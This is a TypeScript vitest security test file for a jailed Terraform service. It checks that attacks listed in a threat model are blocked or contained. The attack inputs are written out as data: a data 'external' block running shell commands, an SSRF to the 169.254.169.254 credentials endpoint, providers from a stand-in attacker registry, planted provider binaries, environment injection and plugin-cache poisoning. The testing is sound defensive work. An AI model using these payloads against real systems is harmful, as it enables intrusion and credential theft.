// Threat rows 1-7 and 24: programs, network and foreign providers. Each test performs the attack twice:
// with the default policy (blocked before any jail, security_violation) and with the rule set to warn,
// so the jail and the service-owned terraform configuration are shown to contain it on their own.
import { createHash } from 'node:crypto';
import { readdir, stat } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { MIRROR_IN_JAIL, cliConfig, terraformSpec } from '../../src/domains/terraform/profile.js';
import { shellSpec } from '../../src/jail/profiles/shell.js';
import { limits, testHost, testShellProfile } from '../support/jail.js';
import { errorText, expectBlocked, stepNames } from './support/expect.js';
import { files, runTerraform, testConfig } from './support/runner.js';

const WARN_ALL = { TF_POLICY_WARN: 'data_external,data_http,provider_not_allowed,remote_state' };

describe('threat row 1: data "external" runs a program', () => {
  const attack = files({ 'main.tf': 'data "external" "pwn" {\n  program = ["sh", "-c", "id >&2"]\n}\n' });

  it('data_external_is_blocked_by_policy_security_violation', async () => {
    expectBlocked(await runTerraform({ input: attack }), 'data_external', 'main.tf', 1);
  });

  it('data_external_with_policy_warning_has_no_provider_provider_error', async () => {
    const result = await runTerraform({ input: attack }, WARN_ALL);
    expect(result.error?.type).toBe('provider_error');
    expect(stepNames(result)).toEqual(['init']);
    expect(errorText(result)).toMatch(/hashicorp\/external/);
    expect(result.findings).toContainEqual(expect.objectContaining({ rule: 'data_external', severity: 'warn' }));
  });
});

describe('threat row 2: data "http" SSRF to the metadata service', () => {
  const attack = files({ 'main.tf': '\ndata "http" "imds" {\n  url = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"\n}\n' });

  it('data_http_is_blocked_by_policy_security_violation', async () => {
    expectBlocked(await runTerraform({ input: attack }), 'data_http', 'main.tf', 2);
  });

  it('data_http_with_policy_warning_has_no_provider_provider_error', async () => {
    const result = await runTerraform({ input: attack }, WARN_ALL);
    expect(result.error?.type).toBe('provider_error');
    expect(errorText(result)).toMatch(/hashicorp\/http/);
    expect(stepNames(result)).toEqual(['init']);
  });
});

describe('threat rows 3-4: foreign providers and provider-defined functions', () => {
  const functionAttack = files({
    'main.tf': 'terraform {\n  required_providers {\n    evil = {\n      source = "evil.example.com/x/evil"\n    }\n  }\n}\noutput "x" {\n  value = provider::evil::run("id")\n}\n',
  });
  // Same local name as an allowed provider, but the source is an attacker's registry host.
  const registryAttack = files({
    'main.tf': 'terraform {\n  required_providers {\n    aws = { source = "evil.example.com/hashicorp/aws" }\n  }\n}\nresource "aws_s3_bucket" "b" {}\n',
  });

  it('provider_function_from_foreign_provider_is_blocked_security_violation', async () => {
    const result = await runTerraform({ input: functionAttack });
    expectBlocked(result, 'provider_not_allowed', 'main.tf', 3);
    expect(result.findings).toContainEqual(expect.objectContaining({ rule: 'provider_not_allowed', line: 9 }));
  });

  it('provider_function_with_policy_warning_cannot_install_provider_error', async () => {
    const result = await runTerraform({ input: functionAttack }, WARN_ALL);
    expect(result.error?.type).toBe('provider_error');
    expect(stepNames(result)).toEqual(['init']);
  });

  it('attacker_registry_source_is_blocked_security_violation', async () => {
    expectBlocked(await runTerraform({ input: registryAttack }), 'provider_not_allowed', 'main.tf', 3);
  });

  it('attacker_registry_source_with_policy_warning_never_leaves_mirror_provider_error', async () => {
    const result = await runTerraform({ input: registryAttack }, WARN_ALL);
    expect(result.error?.type).toBe('provider_error');
    // The only installation source is the filesystem mirror: no registry lookup, no network.
    expect(errorText(result)).toMatch(/evil\.example\.com\/hashicorp\/aws was not found in any of the search locations/);
    expect(errorText(result)).not.toMatch(/dial tcp|lookup evil/);
  });

  it('cli_config_has_filesystem_mirror_and_no_direct', () => {
    const text = cliConfig({ terraformHostPath: '/usr/local/bin/terraform', mirrorHostPath: '/opt/tf-plugins' });
    expect(text).toContain(`path    = "${MIRROR_IN_JAIL}"`);
    expect(text).not.toMatch(/direct|dev_overrides|plugin_cache_dir|network_mirror|credentials/);
  });
});

describe('threat rows 5-6: shipped provider binaries', () => {
  const binary = '#!/bin/sh\nid > /workspace/pwned\n';

  it('shipped_dot_terraform_provider_and_lock_are_stripped_provider_error', async () => {
    const result = await runTerraform({
      input: files({
        'main.tf': 'terraform {\n  required_providers {\n    null = { source = "hashicorp/null" }\n  }\n}\nresource "null_resource" "x" {}\n',
        '.terraform/providers/registry.terraform.io/hashicorp/null/3.2.0/linux_amd64/terraform-provider-null_v3.2.0_x5': binary,
        '.terraform.lock.hcl': 'provider "registry.terraform.io/hashicorp/null" {\n  version = "3.2.0"\n  hashes = ["h1:AAAA"]\n}\n',
      }),
    });
    // The shipped binary is gone, TF_DATA_DIR is fresh: init looks only in the mirror, which has no null.
    expect(result.error?.type).toBe('provider_error');
    expect(errorText(result)).toMatch(/hashicorp\/null was not found in any of the search locations/);
    expect(result.findings.filter((f) => f.rule === 'stripped_file').map((f) => f.file).sort()).toEqual([
      '.terraform.lock.hcl',
      '.terraform/providers/registry.terraform.io/hashicorp/null/3.2.0/linux_amd64/terraform-provider-null_v3.2.0_x5',
    ]);
  });

  it('kept_tenant_lock_with_a_foreign_hash_fails_verification_provider_error', async () => {
    // With TF_LOCK_FILE=keep the tenant's lock is honoured, so its hash must match the mirror's package:
    // a lock pinning an attacker's build of hashicorp/aws stops init instead of selecting anything.
    const result = await runTerraform({
      input: files({
        'main.tf': 'terraform {\n  required_providers {\n    aws = { source = "hashicorp/aws" }\n  }\n}\n',
        '.terraform.lock.hcl': 'provider "registry.terraform.io/hashicorp/aws" {\n  version = "5.100.0"\n  hashes = ["h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="]\n}\n',
      }),
    }, { TF_LOCK_FILE: 'keep' });
    expect(result.error?.type).toBe('provider_error');
    expect(stepNames(result)).toEqual(['init']);
    expect(errorText(result)).toMatch(/checksum/i);
  });

  it('implied_local_mirror_in_terraform_d_is_stripped_provider_error', async () => {
    const result = await runTerraform({
      input: files({
        'main.tf': 'terraform {\n  required_providers {\n    null = { source = "hashicorp/null" }\n  }\n}\n',
        'terraform.d/plugins/registry.terraform.io/hashicorp/null/3.2.0/linux_amd64/terraform-provider-null_v3.2.0_x5': binary,
      }),
    });
    expect(result.error?.type).toBe('provider_error');
    expect(result.findings).toContainEqual(expect.objectContaining({ rule: 'stripped_file', file: expect.stringMatching(/^terraform\.d\//) }));
  });
});

describe('threat row 7: CLI configuration and environment injection', () => {
  const saved = { ...process.env };
  afterEach(() => {
    for (const key of Object.keys(process.env)) if (!(key in saved)) delete process.env[key];
    Object.assign(process.env, saved);
  });

  it('host_env_and_uploaded_cli_config_do_not_reach_terraform_succeeds', async () => {
    // If any of these reached terraform, the run would fail (bad flag), log (TRACE), or use another config.
    Object.assign(process.env, {
      TF_CLI_ARGS: '-no-such-flag',
      TF_CLI_ARGS_plan: '-destroy',
      TF_LOG: 'TRACE',
      TF_PLUGIN_CACHE_DIR: '/tmp/confine-poison-cache',
      HTTPS_PROXY: 'http://127.0.0.1:9',
      GIT_SSH_COMMAND: 'id',
      TF_CLI_CONFIG_FILE: '/tmp/confine-poison.tfrc',
    });
    const result = await runTerraform({
      input: files({
        'main.tf': 'resource "terraform_data" "a" {\n  input = "x"\n}\n',
        '.terraformrc': 'provider_installation {\n  dev_overrides {\n    "hashicorp/aws" = "/workspace"\n  }\n  direct {}\n}\n',
        'terraform.tfrc': 'plugin_cache_dir = "/workspace"\n',
      }),
    });
    expect(result.error).toBeNull();
    expect(result.summary).toMatchObject({ add: 1, destroy: 0 });
    for (const step of result.steps) expect(step.result.stderr).not.toMatch(/\[TRACE\]|\[DEBUG\]/);
    expect(result.findings.map((f) => f.file).sort()).toEqual(['.terraformrc', 'terraform.tfrc']);
  });

  it('jail_environment_is_exactly_the_service_set', () => {
    const spec = terraformSpec({ terraformHostPath: '/usr/local/bin/terraform', mirrorHostPath: '/opt/tf-plugins' }, { args: ['version'], workingDir: '', limits: limits() });
    expect(Object.keys(spec.env).sort()).toEqual(['AWS_EC2_METADATA_DISABLED', 'CHECKPOINT_DISABLE', 'HOME', 'TF_CLI_CONFIG_FILE', 'TF_DATA_DIR', 'TF_INPUT', 'TF_IN_AUTOMATION', 'TMPDIR']);
  });
});

describe('threat row 24: shared plugin-cache poisoning', () => {
  async function fingerprint(dir: string): Promise<string> {
    const hash = createHash('sha256');
    const walk = async (path: string): Promise<void> => {
      for (const name of (await readdir(path)).sort()) {
        const info = await stat(join(path, name));
        hash.update(`${join(path, name)} ${info.size} ${info.mtimeMs} ${info.mode}\n`);
        if (info.isDirectory()) await walk(join(path, name));
      }
    };
    await walk(dir);
    return hash.digest('hex');
  }

  it('mirror_is_read_only_inside_jails_and_unchanged_by_runs', async () => {
    const mirror = testConfig().providerMirror;
    expect(mirror).not.toBe('');
    const before = await fingerprint(mirror);
    // A tenant run that tries to leave plugins behind for the next tenant.
    await runTerraform({
      input: files({
        'main.tf': 'resource "terraform_data" "a" {}\n',
        'terraform.d/plugins/registry.terraform.io/hashicorp/aws/9.9.9/linux_amd64/terraform-provider-aws': 'evil',
      }),
    });
    // The mirror as a jailed program sees it: writing fails (read-only bind), not just by convention.
    const host = await testHost();
    const profile = await testShellProfile(['touch']);
    const write = await host.run(
      shellSpec(profile, {
        command: { script: `touch ${MIRROR_IN_JAIL}/registry.terraform.io/hashicorp/aws/poison && echo wrote || echo denied` },
        limits: limits(),
        extraMounts: [{ kind: 'ro-bind', source: mirror, target: MIRROR_IN_JAIL }],
      }),
    );
    expect(write.stdout.trim()).toBe('denied');
    expect(write.stderr).toMatch(/Read-only file system/);
    expect(await fingerprint(mirror)).toBe(before);
  });
});
